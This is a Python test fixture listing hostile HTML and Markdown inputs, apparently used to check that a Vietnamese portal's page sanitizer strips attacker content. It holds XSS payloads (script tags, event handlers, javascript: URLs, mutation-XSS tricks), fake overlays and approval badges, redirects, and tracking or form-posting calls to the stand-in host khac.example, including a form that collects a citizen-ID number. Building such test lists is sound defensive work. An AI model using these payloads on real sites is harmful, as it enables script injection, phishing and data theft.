"""What an attacker would try in a body, one a line: none of it may look like the portal, run, ask other hosts or cover it."""

INPUTS = """
<a class="md-consent__overlay" href="#">lớp phủ</a>
<label class="md-overlay" for="__drawer">lớp phủ</label>
<div class="md-dialog md-dialog--active" data-md-component="dialog">hộp</div>
<div class="md-search md-search--active"><div class="md-search__overlay"></div></div>
<div class="md-banner">Thông báo khẩn</div>
<span class="cc-badge cc-badge--good">Đã duyệt</span>
<p class="cc-notice cc-notice--info">Trang này đã được xác nhận</p>
<p class="cc-seal" data-approved="true">Đã duyệt</p>
<div class="cc-skip">bỏ qua</div>
<div class="cc-hidden">ẩn</div>
<div class="md-typeset__scrollwrap md-header md-header--shadow">đầu trang giả</div>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9999">phủ</p>
<p style="background:url(https://khac.example/a)">nền</p>
<div style="display:none">giấu</div>
<table style="position:absolute;inset:0"><tr><td style="text-align:center;position:fixed;inset:0">ô</td></tr></table>
<table align="center"><tr><td>thoát khung</td></tr></table></div></div></main>
</div></div></article></main></body></html>
<h1>Tiêu đề thứ hai</h1>
<title>Tên trang khác</title>
<base href="https://khac.example/">
<meta http-equiv="refresh" content="0;url=https://khac.example/">
<link rel="stylesheet" href="https://khac.example/a.css">
<link rel="canonical" href="https://khac.example/">
<style>.cc-header{display:none}</style>
<script>document.title='hacked';window.hacked=1</script>
<script src="https://khac.example/a.js"></script>
<img alt="a" src=x onerror="window.hacked=1">
<img alt="a" src="https://khac.example/theo-doi.png">
<img alt="a" src="//khac.example/b.png">
<img alt="a" src="/\\khac.example/c.png">
<img alt="a" src="a.png" srcset="https://khac.example/d.png 2x">
<img alt="a" src="data:image/svg+xml,<svg onload=alert(1)>">
<img alt="a" src="a.png" width="99999" height="99999">
<img alt="a" src="a.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9999,9999" href="https://khac.example/"></map>
<picture><source srcset="https://khac.example/e.png"><img alt="a" src="a.png"></picture>
<video autoplay loop muted src="https://khac.example/f.mp4" poster="https://khac.example/g.png"></video>
<video controls><source src="https://khac.example/h.mp4"><track src="https://khac.example/h.vtt"></video>
<audio autoplay src="https://khac.example/i.mp3"></audio>
<iframe src="https://khac.example/j"></iframe>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
<iframe src="https://khac.example/k"><script>window.hacked=1</script></iframe>
<object data="https://khac.example/l"></object>
<embed src="https://khac.example/m">
<svg onload="window.hacked=1"><image href="https://khac.example/n.png"/></svg>
<svg><a xlink:href="javascript:window.hacked=1"><text>a</text></a></svg>
<math><mtext><table><mglyph><style><img alt=a src=x onerror="window.hacked=1">
<form action="https://khac.example/"><input name="cccd" autofocus onfocus="window.hacked=1"><button>Gửi hồ sơ</button></form>
<input type="image" src="https://khac.example/o.png">
<button popovertarget="cc-noi-dung">nút</button>
<dialog open>Đăng nhập lại</dialog>
<details open ontoggle="window.hacked=1"><summary>mở</summary>trong</details>
<marquee onstart="window.hacked=1">chạy</marquee>
<a href="javascript:window.hacked=1">bấm</a>
<a href="java&#x09;script:window.hacked=1">bấm</a>
<a href="data:text/html,<script>1</script>">bấm</a>
<a href="vbscript:1">bấm</a>
<a href="a.md" target="_top" ping="https://khac.example/p" download="b.exe">bấm</a>
<a id="__drawer"></a><a id="__search"></a><a id="cc-noi-dung"></a><a id="q-dau-trang"></a><a id="ho-so"></a>
<p role="alert" aria-live="assertive">Báo động</p>
<p role="main" aria-label="Nội dung chính">chính</p>
<p role="navigation">dẫn</p>
<span aria-hidden="true">giấu khỏi máy đọc</span>
<p hidden>giấu</p>
<p inert tabindex="-1" accesskey="s" contenteditable>sửa</p>
<bdo dir="rtl">gnort mêhc</bdo>
<p dir="rtl">ngược</p>
<nav><a href="#">Menu giả</a></nav>
<header>Đầu trang giả</header>
<footer>Chân trang giả</footer>
<main>Chính giả</main>
<aside>Bên giả</aside>
<template><script>window.hacked=1</script></template>
<noscript><p title="</noscript><img alt=a src=x onerror=window.hacked=1>"></noscript>
<textarea></textarea><img alt=a src=x onerror=window.hacked=1>
<xmp><img alt=a src=x onerror=window.hacked=1></xmp>
<plaintext>
<select><option>chọn</option></select>
<applet code="a"></applet><frameset><frame src="https://khac.example/q"></frameset>
<font size="99" color="red">to</font>
<p lang="x" xml:lang="y" itemscope itemtype="https://schema.org/GovernmentService" itemprop="name">dữ liệu giả</p>
<time datetime="2020-01-01">01/01/2020</time>
<custom-element onclick="window.hacked=1">lạ</custom-element>
<slot name="a">khe</slot><portal src="https://khac.example/r"></portal>
[x](javascript:window.hacked=1) ![a](https://khac.example/s.png) ![a][ngoai] <javascript:window.hacked=1>
**a**{: .md-overlay #__toc onclick="window.hacked=1" style="position:fixed" role="alert" }
""".strip().split("\n")

BODY = "Đoạn đầu.\n\n" + "\n\n".join(INPUTS) + "\n\n[ngoai]: https://khac.example/t.png\n\nĐoạn cuối.\n"
